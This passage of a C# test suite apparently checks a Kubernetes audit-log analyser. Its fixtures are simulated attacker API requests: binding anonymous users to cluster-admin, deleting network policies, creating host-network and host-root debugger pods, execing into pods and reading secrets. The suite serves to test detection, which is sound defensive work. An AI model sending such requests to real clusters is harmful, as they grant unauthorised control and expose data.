            Event("patch", "namespaces", name: "ci", user: Attacker, at: at, userAgent: Kubectl, level: "Request", code: code,
                decision: code == 403 ? "forbid" : "allow", request: $$$$"""{"metadata":{"labels":{"env":{{{{value}}}}}}}""");
        var flows = new[]
        {
            BlindAuditStateCaseTests.Flow("03:05", Runner, Db, 5432),
            BlindAuditStateCaseTests.Flow("03:12", Runner, Db, 5432),
            BlindAuditStateCaseTests.Flow("03:22", Runner, Db, 5432),
            BlindAuditStateCaseTests.Flow("03:27", Runner, Db, 5432),
            BlindAuditStateCaseTests.Flow("03:29", Runner, Db, 5432),
            BlindAuditStateCaseTests.Flow("03:31", Runner, WebService, 80),
            BlindAuditStateCaseTests.Flow("03:40", Runner, Db, 5432),
        };
        string[] log =
        [
            Label("03:10", "\"prod\""),
            Label("03:20", "null"),
            Label("03:24", "\"prod\"", code: 403),
            Created(Event("create", "networkpolicies", "data", "allow-ci", user: Attacker, at: "03:25", userAgent: Kubectl, level: "Request", code: 201, request: AllowCi)),
            Event("delete", "networkpolicies", "data", "allow-ci", user: Attacker, at: "03:26", userAgent: Kubectl, level: "Request",
                request: """{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/v1","dryRun":["All"]}"""),
            Event("delete", "networkpolicies", "shop", "default-deny", user: Attacker, at: "03:30", userAgent: Kubectl, request: DeleteOptions,
                response: Deleted("default-deny", "networkpolicies")),
            Label("03:35", "\"prod\""),
        ];
        // 03:35 relabels ci again, but the connection to db has stayed allowed since allow-ci was created at 03:25.
        const string cause = " cause 2024-05-01T03:";
        const string by = " " + Attacker + " ";
        Assert.Equal(
        [
            "policy-violation ci/runner[Pod] > data/db[StatefulSet] 5432 x2 2024-05-01T03:05:00Z..2024-05-01T03:22:00Z",
            "via-policy-change ci/runner[Pod] > data/db[StatefulSet] 5432 x1 2024-05-01T03:12:00Z..2024-05-01T03:12:00Z" + cause + "10:00Z" + by + "patch Namespace ci",
            "via-policy-change ci/runner[Pod] > data/db[StatefulSet] 5432 x3 2024-05-01T03:27:00Z..2024-05-01T03:40:00Z" + cause + "25:00Z" + by + "create NetworkPolicy data/allow-ci",
            "via-policy-change ci/runner[Pod] > shop/web[Deployment] 8080 x1 2024-05-01T03:31:00Z..2024-05-01T03:31:00Z" + cause + "30:00Z" + by + "delete NetworkPolicy shop/default-deny",
        ], BlindAuditStateCaseTests.Check(Cluster, flows, log));
        // The same writes as audit reports them: the relabel back (03:20) and the relabel again (03:35) open nothing.
        Assert.Equal(
        [
            "events 7",
            "label-change-opened high 2024-05-01T03:10:00Z" + by + "patch Namespace ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
            "network-policy-tampering high 2024-05-01T03:25:00Z" + by + "create NetworkPolicy data/allow-ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
            "network-policy-tampering high 2024-05-01T03:30:00Z" + by + "delete NetworkPolicy shop/default-deny | "
                + "0.0.0.0-255.255.255.255[External] => shop/web[Deployment] : All Connections; ci/runner[Pod] => shop/web[Deployment] : All Connections; "
                + "data/db[StatefulSet] => shop/web[Deployment] : All Connections",
        ], Audit(log));
    }

    [Fact]
    public void A_stolen_kube_system_token_reads_secrets_unreported_but_binding_anonymous_to_cluster_admin_and_the_anonymous_watch_are_not()
    {
        // The contract exempts system:serviceaccount:kube-system:* from secret-access only; rbac-escalation exempts no service account.
        const string stolen = "system:serviceaccount:kube-system:replicaset-controller";
        string[] unauthenticated = ["system:unauthenticated"];
        string[] log =
        [
            Event("list", "secrets", user: stolen, at: "09:00", level: "Metadata", userAgent: "curl/8.5.0"),
            Created(Event("create", "clusterrolebindings", name: "anon-admin", user: stolen, at: "09:01", userAgent: Kubectl, code: 201,
                request: """{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"anon-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"system:anonymous"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}""")),
            Event("watch", "secrets", user: "system:anonymous", groups: unauthenticated, at: "09:02", level: "Metadata", userAgent: "Go-http-client/1.1",
                id: "anon-watch", stage: "ResponseStarted", query: "allowWatchBookmarks=true&watch=true"),
            StageAt(Event("watch", "secrets", user: "system:anonymous", groups: unauthenticated, at: "09:02", level: "Metadata", userAgent: "Go-http-client/1.1",
                id: "anon-watch", query: "allowWatchBookmarks=true&watch=true"), "09:09:41.512345"),
        ];
        Assert.Equal(
        [
            "events 4",
            "anonymous-access high 2024-05-01T09:02:00Z system:anonymous watch Secret */* | ",
            "rbac-escalation high 2024-05-01T09:01:00Z " + stolen + " create ClusterRoleBinding anon-admin | ",
            "secret-access medium 2024-05-01T09:02:00Z system:anonymous watch Secret */* | ",
        ], Audit(log));
    }

    [Fact]
    public void A_deployment_moved_onto_the_host_network_by_json_patch_is_reported_and_its_rollout_is_not()
    {
        const string controller = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:";
        const string template = """{"metadata":{"labels":{"app":"web","pod-template-hash":"7b4d9c6f5"}},"spec":{"hostNetwork":true,"containers":[{"name":"web","image":"nginx","ports":[{"containerPort":8080}]}]}}""";
        const string podMeta = """ "namespace":"shop","labels":{"app":"web","pod-template-hash":"7b4d9c6f5"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-7b4d9c6f5","uid":"rs2","controller":true}]""";
        const string podSpec = """{"hostNetwork":true,"containers":[{"name":"web","image":"nginx","ports":[{"containerPort":8080}]}]}""";
        string[] log =
        [
            Event("patch", "deployments", "shop", "web", user: Attacker, at: "10:00", userAgent: Kubectl, level: "Request",
                request: """[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]"""),
            Created(Event("create", "replicasets", "shop", "web-7b4d9c6f5", user: "system:serviceaccount:kube-system:deployment-controller", at: "10:00:01",
                userAgent: controller + "deployment-controller", code: 201,
                request: $$$$"""{"kind":"ReplicaSet","apiVersion":"apps/v1","metadata":{"name":"web-7b4d9c6f5","namespace":"shop","labels":{"app":"web","pod-template-hash":"7b4d9c6f5"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"Deployment","name":"web","uid":"1d0c4c1e-0001-4000-8000-000000000001","controller":true}]},"spec":{"replicas":1,"selector":{"matchLabels":{"app":"web","pod-template-hash":"7b4d9c6f5"}},"template":{{{{template}}}}}}""")),
            Event("create", "pods", "shop", user: "system:serviceaccount:kube-system:replicaset-controller", at: "10:00:02", userAgent: controller + "replicaset-controller", code: 201,
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"web-7b4d9c6f5-",{{{podMeta}}}},"spec":{{{podSpec}}}}""",
                response: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-7b4d9c6f5-mq9zl","generateName":"web-7b4d9c6f5-",{{{podMeta}}}},"spec":{{{podSpec}}},"status":{"phase":"Pending"}}"""),
        ];
        Assert.Equal(["events 3", "host-network-pod high 2024-05-01T10:00:00Z " + Attacker + " patch Deployment shop/web | "], Audit(log));
    }

    [Fact]
    public void A_service_exposed_by_kubectl_expose_edit_json_patch_and_server_side_apply_is_reported_at_each_new_exposure()
    {
        static string Service(string name, string spec) =>
            $$$"""{"kind":"Service","apiVersion":"v1","metadata":{"name":"{{{name}}}","namespace":"shop"},"spec":{{{spec}}}}""";
        static string Patch(string at, string body, string? query = null) =>
            Event("patch", "services", "shop", "web", user: Attacker, at: at, userAgent: Kubectl, level: "Request", request: body, query: query);
        string[] log =
        [
            Created(Event("create", "services", "shop", "web-np", user: Attacker, at: "11:00", userAgent: Kubectl, code: 201,
                request: Service("web-np", """{"ports":[{"port":80,"protocol":"TCP","targetPort":8080}],"selector":{"app":"web"},"type":"NodePort"}"""),
                response: Service("web-np", """{"ports":[{"port":80,"protocol":"TCP","targetPort":8080,"nodePort":31080}],"selector":{"app":"web"},"type":"NodePort","clusterIP":"10.96.20.20","clusterIPs":["10.96.20.20"]}"""))),
            Event("update", "services", "shop", "web", user: Attacker, at: "11:01", userAgent: Kubectl,
                request: Service("web", """{"type":"LoadBalancer","clusterIP":"10.96.10.10","clusterIPs":["10.96.10.10"],"selector":{"app":"web"},"ports":[{"port":80,"targetPort":8080,"protocol":"TCP"}]}"""),
                response: Service("web", """{"type":"LoadBalancer","clusterIP":"10.96.10.10","clusterIPs":["10.96.10.10"],"selector":{"app":"web"},"ports":[{"port":80,"targetPort":8080,"protocol":"TCP","nodePort":30080}]}""")),
            Patch("11:02", """[{"op":"add","path":"/spec/externalIPs","value":["203.0.113.50"]}]"""),
            Patch("11:03", """[{"op":"add","path":"/spec/externalIPs/-","value":"203.0.113.51"}]"""),
            Patch("11:04", """[{"op":"remove","path":"/spec/externalIPs/0"}]"""),
            Patch("11:05", """{"apiVersion":"v1","kind":"Service","metadata":{"name":"web","namespace":"shop"},"spec":{"type":"LoadBalancer","externalIPs":["203.0.113.51"],"selector":{"app":"web"},"ports":[{"port":80,"targetPort":8080}]}}""",
                query: "fieldManager=kubectl&fieldValidation=Strict&force=false"),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 6",
            "exposure-change medium 2024-05-01T11:00:00Z" + user + "create Service shop/web-np | ",
            "exposure-change medium 2024-05-01T11:01:00Z" + user + "update Service shop/web | ",
            "exposure-change medium 2024-05-01T11:02:00Z" + user + "patch Service shop/web | ",
            "exposure-change medium 2024-05-01T11:03:00Z" + user + "patch Service shop/web | ",
        ], Audit(log));
    }

    [Fact]
    public void Rbac_objects_of_the_dump_are_the_past_a_subject_added_to_cluster_admin_and_a_rule_appended_are_judged_against()
    {
        const string rbac = """

            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: ClusterRoleBinding
            metadata: {name: cluster-admin, labels: {kubernetes.io/bootstrapping: rbac-defaults}}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
            subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:masters"}]
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: Role
            metadata: {name: deployer, namespace: ci}
            rules: [{apiGroups: [apps], resources: [deployments], verbs: [get, list, patch]}]
            """;
        string[] log =
        [
            Event("patch", "clusterrolebindings", name: "cluster-admin", user: Attacker, at: "12:00", userAgent: Kubectl, level: "Request",
                request: """{"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"system:masters"},{"kind":"ServiceAccount","name":"builder","namespace":"ci"}]}"""),
            Event("patch", "roles", "ci", "deployer", user: Attacker, at: "12:01", userAgent: Kubectl, level: "Request",
                request: """[{"op":"add","path":"/rules/-","value":{"apiGroups":["networking.k8s.io"],"resources":["networkpolicies"],"resourceNames":["default-deny"],"verbs":["delete"]}}]"""),
            Created(Event("create", "clusterroles", name: "policy-admin", user: Attacker, at: "12:02", userAgent: Kubectl, code: 201,
                request: """{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"policy-admin"},"rules":[{"apiGroups":["policy.networking.k8s.io"],"resources":["clusternetworkpolicies","baselineadminnetworkpolicies"],"verbs":["deletecollection"]}]}""")),
            Event("patch", "roles", "ci", "deployer", user: Attacker, at: "12:03", userAgent: Kubectl, level: "Request",
                request: """[{"op":"replace","path":"/rules/0/verbs","value":["get","list","patch","update"]}]"""),
            Event("patch", "clusterrolebindings", name: "cluster-admin", user: Attacker, at: "12:04", userAgent: Kubectl, level: "Request",
                request: """{"metadata":{"annotations":{"rbac.authorization.kubernetes.io/autoupdate":"false"}}}"""),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 5",
            "rbac-escalation high 2024-05-01T12:00:00Z" + user + "patch ClusterRoleBinding cluster-admin | ",
            "rbac-escalation high 2024-05-01T12:01:00Z" + user + "patch Role ci/deployer | ",
            "rbac-escalation high 2024-05-01T12:02:00Z" + user + "create ClusterRole policy-admin | ",
        ], Audit(Cluster + rbac, log));
    }

    private const string IsolateCi = """

        ---
        apiVersion: policy.networking.k8s.io/v1alpha1
        kind: AdminNetworkPolicy
        metadata: {name: isolate-ci}
        spec:
          priority: 5
          subject: {namespaces: {matchLabels: {kubernetes.io/metadata.name: ci}}}
          egress:
          - {name: deny-cluster, action: Deny, to: [{namespaces: {}}]}
        """;

    [Fact]
    public void A_relabel_an_admin_policy_still_blocks_is_silent_until_the_admin_policy_is_deleted_which_then_opened_it()
    {
        string[] log =
        [
            Event("patch", "namespaces", name: "ci", user: Attacker, at: "13:00", userAgent: Kubectl,
                request: """{"metadata":{"labels":{"env":"prod"}}}""", response: CiNamespace(""","env":"prod" """, "9300")),
            Event("delete", "adminnetworkpolicies", name: "isolate-ci", user: Attacker, at: "13:05:00.250000", userAgent: Kubectl, request: DeleteOptions,
                response: """{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"isolate-ci","group":"policy.networking.k8s.io","kind":"adminnetworkpolicies"}}"""),
        ];
        Assert.Equal(
        [
            "events 2",
            "network-policy-tampering high 2024-05-01T13:05:00.250000Z " + Attacker + " delete AdminNetworkPolicy isolate-ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
        ], Audit(Cluster + IsolateCi, log));
        Assert.Equal(
        [
            "policy-violation ci/runner[Pod] > data/db[StatefulSet] 5432 x1 2024-05-01T13:05:00.1Z..2024-05-01T13:05:00.1Z",
            "via-policy-change ci/runner[Pod] > data/db[StatefulSet] 5432 x2 2024-05-01T13:05:00.25Z..2024-05-01T13:06:00Z cause 2024-05-01T13:05:00.250000Z "
                + Attacker + " delete AdminNetworkPolicy isolate-ci",
        ], BlindAuditStateCaseTests.Check(Cluster + IsolateCi,
            [
                BlindAuditStateCaseTests.Flow("13:05:00.100000", Runner, Db, 5432),
                BlindAuditStateCaseTests.Flow("13:05:00.250000", Runner, Db, 5432),
                BlindAuditStateCaseTests.Flow("13:06", Runner, Db, 5432),
            ], log));
    }

    [Fact]
    public void A_stolen_kubelet_credential_reading_kube_system_secrets_by_name_is_reported_under_the_name_the_server_logged()
    {
        // The kubelet lists and watches one secret by a metadata.name field selector; the API server puts that name in objectRef.
        static string Read(string verb, string at, string query) =>
            Created(Event(verb, "secrets", "kube-system", "kube-proxy-token", user: "system:node:node-1", groups: ["system:nodes", "system:authenticated"], at: at,
                level: "Metadata", userAgent: "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", query: query));
        string[] log =
        [
            Read("list", "14:00", "fieldSelector=metadata.name%3Dkube-proxy-token&limit=500&resourceVersion=0"),
            Read("watch", "14:00:01", "allowWatchBookmarks=true&fieldSelector=metadata.name%3Dkube-proxy-token&resourceVersion=9400&timeout=7m5s&timeoutSeconds=425&watch=true"),
        ];
        Assert.Equal(
        [
            "events 2",
            "secret-access medium 2024-05-01T14:00:00Z system:node:node-1 list Secret kube-system/kube-proxy-token | ",
            "secret-access medium 2024-05-01T14:00:01Z system:node:node-1 watch Secret kube-system/kube-proxy-token | ",
        ], Audit(log));
    }

    [Fact]
    public void Kubectl_debug_on_a_node_is_a_host_network_pod_and_an_attach_and_a_debug_container_in_a_pod_only_an_attach()
    {
        const string nodeDebugger = """{"kind":"Pod","apiVersion":"v1","metadata":{"name":"node-debugger-node-1-8lwq2","namespace":"ci","labels":{"app.kubernetes.io/managed-by":"kubectl-debug"}},"spec":{"nodeName":"node-1","hostNetwork":true,"hostPID":true,"hostIPC":true,"restartPolicy":"Never","containers":[{"name":"debugger","image":"busybox","stdin":true,"tty":true,"volumeMounts":[{"name":"host-root","mountPath":"/host"}]}],"volumes":[{"name":"host-root","hostPath":{"path":"/"}}]}}""";
        string[] log =
        [
            Created(Event("create", "pods", "ci", "node-debugger-node-1-8lwq2", user: Attacker, at: "15:00", userAgent: Kubectl, code: 201, request: nodeDebugger, response: nodeDebugger)),
            Event("create", "pods", "ci", "node-debugger-node-1-8lwq2", subresource: "attach", user: Attacker, at: "15:00:03", userAgent: Kubectl, level: "Metadata",
                stage: "ResponseStarted", code: 101, id: "node-attach", query: "container=debugger&stdin=true&stdout=true&tty=true"),
            Event("patch", "pods", "shop", "web-6c9f8d7b5-x2x9k", subresource: "ephemeralcontainers", user: Attacker, at: "15:01", userAgent: Kubectl, level: "Request",
                request: """{"spec":{"ephemeralContainers":[{"name":"debugger-7t2kq","image":"busybox","stdin":true,"tty":true,"targetContainerName":"web"}]}}"""),
            Event("get", "pods", "shop", "web-6c9f8d7b5-x2x9k", subresource: "attach", user: Attacker, at: "15:01:04", userAgent: Kubectl, level: "Metadata",
                stage: "ResponseStarted", code: 101, id: "pod-attach", query: "container=debugger-7t2kq&stdin=true&stdout=true&tty=true"),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 4",
            "exec medium 2024-05-01T15:00:03Z" + user + "create Pod ci/node-debugger-node-1-8lwq2 | ",
            "exec medium 2024-05-01T15:01:04Z" + user + "get Pod shop/web-6c9f8d7b5-x2x9k | ",
            "host-network-pod high 2024-05-01T15:00:00Z" + user + "create Pod ci/node-debugger-node-1-8lwq2 | ",
        ], Audit(log));
    }

    [Fact]
    public void Host_network_workloads_of_every_kind_are_reported_once_and_what_admission_or_validation_refused_is_not()
    {
        const string ctrl = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:";
        const string hostSpec = """{"hostNetwork":true,"restartPolicy":"Never","containers":[{"name":"c","image":"busybox"}]}""";
        string[] log =
        [
            Created(Event("create", "statefulsets", "ci", "relay", user: Attacker, at: "16:00", userAgent: Kubectl, code: 201,
                request: $$$$"""{"kind":"StatefulSet","apiVersion":"apps/v1","metadata":{"name":"relay","namespace":"ci"},"spec":{"serviceName":"relay","replicas":1,"selector":{"matchLabels":{"app":"relay"}},"template":{"metadata":{"labels":{"app":"relay"}},"spec":{{{{hostSpec}}}}}}}""")),
            Created(Event("create", "pods", "ci", "relay-0", user: "system:serviceaccount:kube-system:statefulset-controller", at: "16:00:01", userAgent: ctrl + "statefulset-controller", code: 201,
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"relay-0","namespace":"ci","labels":{"app":"relay"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"StatefulSet","name":"relay","uid":"ss1","controller":true}]},"spec":{{{hostSpec}}}}""")),
            Created(Event("create", "jobs", "ci", "exfil", user: Attacker, at: "16:01", userAgent: Kubectl, code: 201,
                request: $$$$"""{"kind":"Job","apiVersion":"batch/v1","metadata":{"name":"exfil","namespace":"ci"},"spec":{"template":{"spec":{{{{hostSpec}}}}}}}""")),
            Event("create", "pods", "ci", user: "system:serviceaccount:kube-system:job-controller", at: "16:01:01", userAgent: ctrl + "job-controller", code: 201,
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"exfil-","namespace":"ci","labels":{"job-name":"exfil"},"ownerReferences":[{"apiVersion":"batch/v1","kind":"Job","name":"exfil","uid":"j2","controller":true}]},"spec":{{{hostSpec}}}}""",
                response: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"exfil-5xq8m","namespace":"ci","labels":{"job-name":"exfil"},"ownerReferences":[{"apiVersion":"batch/v1","kind":"Job","name":"exfil","uid":"j2","controller":true}]},"spec":{{{hostSpec}}}}"""),
            Event("patch", "replicasets", "shop", "web-6c9f8d7b5", user: Attacker, at: "16:02", userAgent: Kubectl, level: "Request",
                request: """{"spec":{"template":{"spec":{"hostNetwork":true}}}}"""),
            Event("create", "pods", "shop", user: "system:serviceaccount:kube-system:replicaset-controller", at: "16:02:01", userAgent: ctrl + "replicaset-controller", code: 201,
                request: """{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"web-6c9f8d7b5-","namespace":"shop","labels":{"app":"web","pod-template-hash":"6c9f8d7b5"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-6c9f8d7b5","uid":"1d0c4c1e-0001-4000-8000-000000000002","controller":true}]},"spec":{"hostNetwork":true,"containers":[{"name":"web","image":"nginx","ports":[{"containerPort":8080}]}]}}""",
                response: """{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-6c9f8d7b5-t7k4c","namespace":"shop","labels":{"app":"web","pod-template-hash":"6c9f8d7b5"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-6c9f8d7b5","uid":"1d0c4c1e-0001-4000-8000-000000000002","controller":true}]},"spec":{"hostNetwork":true,"containers":[{"name":"web","image":"nginx","ports":[{"containerPort":8080}]}]}}"""),
            Event("patch", "pods", "ci", "runner", user: Attacker, at: "16:03", userAgent: Kubectl, level: "Request", code: 422, request: """{"spec":{"hostNetwork":true}}"""),
            Created(Event("create", "pods", "shop", "probe", user: Attacker, at: "16:04", userAgent: Kubectl, level: "Request", code: 403,
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"probe","namespace":"shop"},"spec":{{{hostSpec}}}}""")),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 8",
            "host-network-pod high 2024-05-01T16:00:00Z" + user + "create StatefulSet ci/relay | ",
            "host-network-pod high 2024-05-01T16:01:00Z" + user + "create Job ci/exfil | ",
            "host-network-pod high 2024-05-01T16:02:00Z" + user + "patch ReplicaSet shop/web-6c9f8d7b5 | ",
        ], Audit(log));
    }

    [Fact]
    public void Ingress_rules_and_tls_changed_by_edit_or_json_patch_are_exposures_and_a_namespace_edited_into_reach_is_a_label_change()
    {
        static string Ingress(string host, string tls) =>
            $$$$$"""{"kind":"Ingress","apiVersion":"networking.k8s.io/v1","metadata":{"name":"web","namespace":"shop"},"spec":{"ingressClassName":"nginx",{{{{{tls}}}}}"rules":[{"host":"{{{{{host}}}}}","http":{"paths":[{"path":"/","pathType":"Prefix","backend":{"service":{"name":"web","port":{"number":80}}}}]}}]}}""";
        string[] log =
        [
            Created(Event("create", "ingresses", "shop", "web", user: Attacker, at: "17:00", userAgent: Kubectl, code: 201, request: Ingress("shop.example.com", ""))),
            Event("update", "ingresses", "shop", "web", user: Attacker, at: "17:01", userAgent: Kubectl,
                request: Ingress("shop.example.com", """ "tls":[{"hosts":["shop.example.com"],"secretName":"stolen-tls"}],"""),
                response: Ingress("shop.example.com", """ "tls":[{"hosts":["shop.example.com"],"secretName":"stolen-tls"}],""")),
            Event("patch", "ingresses", "shop", "web", user: Attacker, at: "17:02", userAgent: Kubectl, level: "Request",
                request: """[{"op":"replace","path":"/spec/rules/0/host","value":"admin.example.com"}]"""),
            Event("update", "namespaces", name: "ci", user: Attacker, at: "17:03", userAgent: Kubectl,
                request: CiNamespace(""","env":"prod" """, "9500"), response: CiNamespace(""","env":"prod" """, "9501")),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 4",
            "exposure-change medium 2024-05-01T17:00:00Z" + user + "create Ingress shop/web | ",
            "exposure-change medium 2024-05-01T17:01:00Z" + user + "update Ingress shop/web | ",
            "exposure-change medium 2024-05-01T17:02:00Z" + user + "patch Ingress shop/web | ",
            "label-change-opened high 2024-05-01T17:03:00Z" + user + "update Namespace ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
        ], Audit(log));
    }

    [Fact]
    public void A_policy_deleted_then_the_baseline_admin_policy_deleted_each_open_what_the_tier_below_had_denied()
    {
        const string tiers = """

            ---
            apiVersion: policy.networking.k8s.io/v1alpha1
            kind: BaselineAdminNetworkPolicy
            metadata: {name: default}
            spec:
              subject: {namespaces: {}}
              ingress:
              - {name: deny-all, action: Deny, from: [{namespaces: {}}]}
            """;
        string[] log =
        [
            Event("delete", "networkpolicies", "data", "db-ingress", user: Attacker, at: "18:00", userAgent: Kubectl, request: DeleteOptions, response: Deleted("db-ingress", "networkpolicies")),
            Event("delete", "baselineadminnetworkpolicies", name: "default", user: Attacker, at: "18:01", userAgent: Kubectl, request: DeleteOptions,
                response: """{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"default","group":"policy.networking.k8s.io","kind":"baselineadminnetworkpolicies"}}"""),
        ];
        // db-ingress gone leaves db unisolated: only the baseline denies pods; once it goes, everything reaches db.
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 2",
            "network-policy-tampering high 2024-05-01T18:00:00Z" + user + "delete NetworkPolicy data/db-ingress | "
                + "0.0.0.0-255.255.255.255[External] => data/db[StatefulSet] : All Connections",
            "network-policy-tampering high 2024-05-01T18:01:00Z" + user + "delete BaselineAdminNetworkPolicy default | "
                + "ci/runner[Pod] => data/db[StatefulSet] : All Connections; "
                + "data/db[StatefulSet] => ci/runner[Pod] : All Connections; "
                + "shop/web[Deployment] => ci/runner[Pod] : All Connections; "
                + "shop/web[Deployment] => data/db[StatefulSet] : All Connections",
        ], Audit(Cluster + tiers, log));
    }

    [Fact]
    public void A_policy_deleted_and_recreated_to_hide_it_causes_what_passed_in_between_and_nothing_after()
    {
        const string dbIngress = """{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"db-ingress","namespace":"data"},"spec":{"podSelector":{"matchLabels":{"app":"db"}},"policyTypes":["Ingress"],"ingress":[{"from":[{"namespaceSelector":{"matchLabels":{"env":"prod"}}}],"ports":[{"port":5432,"protocol":"TCP"}]}]}}""";
        string[] log =
        [
            Event("delete", "networkpolicies", "data", "db-ingress", user: Attacker, at: "19:00", userAgent: Kubectl, request: DeleteOptions, response: Deleted("db-ingress", "networkpolicies")),
            Created(Event("create", "networkpolicies", "data", "db-ingress", user: Attacker, at: "19:02", userAgent: Kubectl, code: 201, request: dbIngress, response: dbIngress)),
        ];
        const string by = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 2",
            "network-policy-tampering high 2024-05-01T19:00:00Z" + by + "delete NetworkPolicy data/db-ingress | "
                + "0.0.0.0-255.255.255.255[External] => data/db[StatefulSet] : All Connections; ci/runner[Pod] => data/db[StatefulSet] : All Connections; "
                + "shop/web[Deployment] => data/db[StatefulSet] : SCTP 1-65535,TCP 1-5431,5433-65535,UDP 1-65535",
            "network-policy-tampering high 2024-05-01T19:02:00Z" + by + "create NetworkPolicy data/db-ingress | ",
        ], Audit(log));
        Assert.Equal(
        [
            "policy-violation ci/runner[Pod] > data/db[StatefulSet] 5432 x1 2024-05-01T19:03:00Z..2024-05-01T19:03:00Z",
            "via-policy-change ci/runner[Pod] > data/db[StatefulSet] 22,5432 x2 2024-05-01T19:01:00Z..2024-05-01T19:01:30Z cause 2024-05-01T19:00:00Z" + by + "delete NetworkPolicy data/db-ingress",
        ], BlindAuditStateCaseTests.Check(Cluster,
            [
                BlindAuditStateCaseTests.Flow("19:01", Runner, Db, 5432),
                BlindAuditStateCaseTests.Flow("19:01:30", Runner, Db, 22),
                BlindAuditStateCaseTests.Flow("19:03", Runner, Db, 5432),
            ], log));
    }

    [Fact]
    public void A_flow_to_a_service_the_attacker_created_is_judged_at_its_pods_and_target_port_and_caused_by_the_relabel()
    {
        const string dbExt = """{"kind":"Service","apiVersion":"v1","metadata":{"name":"db-ext","namespace":"data"},"spec":{"type":"LoadBalancer","selector":{"app":"db"},"ports":[{"port":15432,"targetPort":5432,"protocol":"TCP"}]}}""";
        string[] log =
        [
            Event("patch", "namespaces", name: "ci", user: Attacker, at: "03:10", userAgent: Kubectl, level: "Request", request: """{"metadata":{"labels":{"env":"prod"}}}"""),
            Created(Event("create", "services", "data", "db-ext", user: Attacker, at: "03:11", userAgent: Kubectl, code: 201, request: dbExt,
                response: dbExt.Replace("\"type\"", "\"clusterIP\":\"10.96.30.30\",\"clusterIPs\":[\"10.96.30.30\"],\"type\"", StringComparison.Ordinal))),
        ];
        const string by = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 2",
            "exposure-change medium 2024-05-01T03:11:00Z" + by + "create Service data/db-ext | ",
            "label-change-opened high 2024-05-01T03:10:00Z" + by + "patch Namespace ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
        ], Audit(log));
        Assert.Equal(
            ["via-policy-change ci/runner[Pod] > data/db[StatefulSet] 5432 x2 2024-05-01T03:12:00Z..2024-05-01T03:13:00Z cause 2024-05-01T03:10:00Z" + by + "patch Namespace ci"],
            BlindAuditStateCaseTests.Check(Cluster,
                [BlindAuditStateCaseTests.Flow("03:12", Runner, Db, 5432), BlindAuditStateCaseTests.Flow("03:13", Runner, "10.96.30.30", 15432)], log));
    }

    [Fact]
    public void A_chain_sent_by_the_webhook_backend_in_event_list_batches_counts_and_alerts_as_its_items()
    {
        static string Batch(params string[] items) =>
            """{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":[""" + string.Join(',', items) + "]}";
        string[] log =
        [
            Batch(
                Event("list", "secrets", user: Attacker, at: "20:00", level: "Metadata", userAgent: "curl/8.5.0", id: "batch-list", stage: "ResponseStarted"),
                Event("get", "pods", "shop", "web-6c9f8d7b5-x2x9k", subresource: "exec", user: Attacker, at: "20:01", level: "Metadata", userAgent: Kubectl,
                    id: "batch-exec", stage: "ResponseStarted", code: 101, query: "command=id&container=web&stdout=true&stderr=true")),
            Batch(
                Event("list", "secrets", user: Attacker, at: "20:00", level: "Metadata", userAgent: "curl/8.5.0", id: "batch-list"),
                Event("get", "pods", "shop", "web-6c9f8d7b5-x2x9k", subresource: "exec", user: Attacker, at: "20:01", level: "Metadata", userAgent: Kubectl,
                    id: "batch-exec", code: 101, query: "command=id&container=web&stdout=true&stderr=true"),
                NonResource("/healthz", at: "20:02")),
        ];
        const string by = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 5",
            "exec medium 2024-05-01T20:01:00Z" + by + "get Pod shop/web-6c9f8d7b5-x2x9k | ",
            "secret-access medium 2024-05-01T20:00:00Z" + by + "list Secret */* | ",
        ], Audit(log));
    }

